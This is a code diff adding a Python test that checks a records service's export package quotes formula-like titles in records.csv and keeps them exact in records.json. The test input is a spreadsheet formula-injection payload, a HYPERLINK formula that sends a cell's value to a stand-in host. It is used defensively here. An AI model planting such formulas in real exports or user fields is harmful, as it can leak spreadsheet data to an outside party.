@@ -4,6 +4,7 @@ certification."""
 from __future__ import annotations
 
 import base64
+import csv
 import hashlib
 import io
 import json
@@ -197,3 +198,18 @@ def test_certification_flow(api: ApiClients) -> None:
     assert audited["status"] == "rejected"
     assert audited["decision"]["fired"][0]["row_id"] == "CT-MANDATORY"
     assert api.as_("ent.b").get(f"{BASE}/certifications").json() == []
+
+
+def test_the_package_never_hands_a_spreadsheet_a_formula(api: ApiClients) -> None:
+    """A title typed as a formula is written quoted in records.csv, so a spreadsheet shows it;
+    records.json keeps it exact for recomputing the commitment."""
+    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
+    record = _register(api, "ent.a", typed)["registered"][0]
+    package = zipfile.ZipFile(io.BytesIO(api.as_("ent.a").get(f"{BASE}/export.zip").content))
+    rows = csv.DictReader(io.StringIO(package.read("records.csv").decode()))
+    [row] = [r for r in rows if r["record_id"] == record["id"]]
+    assert row["title"] == "'" + typed and row["file_name"] == f"'{typed}.bin"
+    [exact] = [
+        r for r in json.loads(package.read("records.json")) if r["record_id"] == record["id"]
+    ]
+    assert exact["title"] == typed  # the values the commitment was made over, unquoted
